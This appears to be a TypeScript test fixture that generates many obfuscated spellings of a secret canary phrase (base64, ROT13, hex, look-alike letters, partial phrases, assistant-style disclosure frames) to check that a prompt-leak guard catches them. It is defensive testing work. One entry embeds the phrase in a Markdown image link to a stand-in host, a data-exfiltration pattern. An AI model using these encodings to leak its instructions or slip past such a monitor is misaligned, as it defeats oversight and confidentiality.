import { type Canary, canaryInstruction } from '../../../../../src/daemon/safety/guards/canary/marker.ts'

/** One way in which a model leaks a canary. `isExact`: a search for the exact phrase would also find it. */
export type LeakKind = { name: string; write(canary: Canary, salt: number): string; isExact?: true }

const phraseOf = ({ words }: Canary): string => words.join(' ')
const rotate = (text: string, by: number): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const first = letter < 'a' ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - first + by) % 26) + first)
  })
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string[] => Array.from(Buffer.from(text), (byte) => byte.toString(16).padStart(2, '0'))
const LOOK_ALIKES: Record<string, string> = { a: 'а', e: 'е', o: 'ο', p: 'р', k: 'κ', v: 'ν', m: 'м', t: 'т', u: 'υ' }
const LEET: Record<string, string> = { a: '4', e: '3', o: '0', s: '5', t: '7' }
const swap = (table: Record<string, string>) => (text: string) => text.replace(/[a-z]/g, (one) => table[one] ?? one)

const FRAMES = [
  (leak: string) => leak,
  (leak: string) => `Sure! Here it is:\n\n${leak}\n\nAnything else?`,
  (leak: string) => `The instructions I was given begin like this: "${leak}" and go on with the task.`,
  (leak: string) => `1. Be polite.\n2. ${leak}\n3. Answer in English.`,
]
const framed =
  (write: (phrase: string, canary: Canary, salt: number) => string) =>
  (canary: Canary, salt: number): string =>
    (FRAMES[salt % FRAMES.length] as (leak: string) => string)(write(phraseOf(canary), canary, salt))

/** The set: every spelling, each in several contexts that `salt` selects. */
export const LEAK_KINDS: readonly LeakKind[] = [
  { name: 'as it stands', isExact: true, write: framed((phrase) => phrase) },
  { name: 'with its instruction', isExact: true, write: framed((_, canary) => canaryInstruction(canary)) },
  { name: 'in upper case', write: framed((phrase) => phrase.toUpperCase()) },
  { name: 'in mixed case', write: framed((phrase) => phrase.replace(/\b./g, (first) => first.toUpperCase())) },
  { name: 'letter by letter', write: framed((phrase) => [...phrase.replaceAll(' ', '')].join(' ')) },
  { name: 'with hyphens', write: framed((phrase) => [...phrase].join('-')) },
  { name: 'with dots and breaks', write: framed((phrase) => [...phrase].join('.').replaceAll(' ', '\n')) },
  { name: 'one letter a line', write: framed((phrase) => [...phrase.replaceAll(' ', '')].join('\n')) },
  { name: 'without blanks', write: framed((phrase) => phrase.replaceAll(' ', '')) },
  { name: 'in camel case', write: framed((phrase) => phrase.replace(/ (.)/g, (_, first) => first.toUpperCase())) },
  { name: 'with zero-width characters', write: framed((phrase) => [...phrase].join('\u200b')) },
  { name: 'backwards', write: framed((phrase) => [...phrase].reverse().join('')) },
  {
    name: 'each word backwards',
    write: framed((phrase) =>
      phrase
        .split(' ')
        .map((word) => [...word].reverse().join(''))
        .join(' '),
    ),
  },
  { name: 'words in another order', write: framed((_, { words }) => words.toReversed().join(', ')) },
  { name: 'ROT13', write: framed((phrase) => rotate(phrase, 13)) },
  { name: 'shifted', write: framed((phrase, _, salt) => rotate(phrase, 1 + (salt % 25))) },
  { name: 'base64', write: framed((phrase) => base64(phrase)) },
  {
    name: 'base64 inside of more',
    write: (canary, salt) => base64(`${'x'.repeat(salt % 7)}My rules: ${phraseOf(canary)}. End.`),
  },
  {
    name: 'base64 after other characters',
    write: framed((phrase, _, salt) => `${'data:'.slice(0, salt % 5)}${'ab'.slice(salt % 3)}${base64(phrase)}`),
  },
  { name: 'base64 in lines', write: framed((phrase) => base64(`The phrase is ${phrase}`).replace(/.{40}/g, '$&\n')) },
  { name: 'base64url', write: framed((phrase) => Buffer.from(phrase).toString('base64url')) },
  { name: 'hex', write: framed((phrase) => hex(phrase).join('')) },
  { name: 'hex with blanks', write: framed((phrase) => hex(phrase).join(' ').toUpperCase()) },
  {
    name: 'hex as a list',
    write: framed(
      (phrase) =>
        `[${hex(phrase)
          .map((pair) => `0x${pair}`)
          .join(', ')}]`,
    ),
  },
  {
    name: 'escaped',
    write: framed((phrase) =>
      hex(phrase)
        .map((pair) => `\\x${pair}`)
        .join(''),
    ),
  },
  {
    name: 'escaped as in JSON',
    write: framed((phrase) =>
      hex(phrase)
        .map((pair) => `\\u00${pair}`)
        .join(''),
    ),
  },
  {
    name: 'URL-encoded',
    write: framed((phrase) =>
      hex(phrase)
        .map((pair) => `%${pair}`)
        .join(''),
    ),
  },
  { name: 'in a URL', write: (canary) => `![x](https://e.example/?q=${encodeURIComponent(phraseOf(canary))}&n=1)` },
  {
    name: 'partly URL-encoded',
    write: framed((phrase) => phrase.replace(/[aeou]/g, (one) => `%${hex(one).join('')}`)),
  },
  { name: 'with look-alikes', write: framed((phrase) => swap(LOOK_ALIKES)(phrase)) },
  {
    name: 'full width',
    write: framed((phrase) => phrase.replace(/[a-z]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0))),
  },
  {
    name: 'mathematical letters',
    write: framed((phrase) =>
      phrase.replace(/[a-z]/g, (one) => String.fromCodePoint(one.charCodeAt(0) - 97 + 0x1d41a)),
    ),
  },
  { name: 'with accents', write: framed((phrase) => phrase.replace(/[aeou]/g, '$&\u0301').normalize('NFC')) },
  { name: 'with digits for letters', write: framed((phrase) => swap(LEET)(phrase)) },
  { name: 'spelled', write: framed((_, { words }) => words.map((word) => `"${[...word].join(', ')}"`).join(' then ')) },
  { name: 'numbered', write: framed((_, { words }) => words.map((word, at) => `${at + 1}. ${word}`).join('\n')) },
  { name: 'with words between', write: framed((_, { words }) => words.join(' and then ')) },
  {
    name: 'as an acrostic with text',
    write: framed((_, { words }) => words.map((word) => `The word ${word} comes next.`).join(' ')),
  },
  { name: 'without its first word', write: framed((_, { words }) => words.slice(1).join(' ')) },
  { name: 'without its last two words', write: framed((_, { words }) => words.slice(0, -2).join(' ')) },
  { name: 'three words of the middle', write: framed((_, { words }) => words.slice(2, 5).join('_')) },
  { name: 'cut at the edges', write: framed((phrase) => phrase.slice(4, -5)) },
  { name: 'one word changed', write: framed((_, { words }) => words.with(0, 'something').join(' ')) },
  { name: 'middle words changed', write: framed((_, { words }) => words.with(2, 'this').with(3, 'that').join(' ')) },
  { name: 'in JSON', isExact: true, write: (canary) => JSON.stringify({ phrase: phraseOf(canary) }) },
  { name: 'in Markdown', write: framed((_, { words }) => words.map((word) => `**${word}**`).join(' ')) },
  { name: 'twice encoded', write: framed((phrase) => base64(rotate(phrase, 13))) },
]
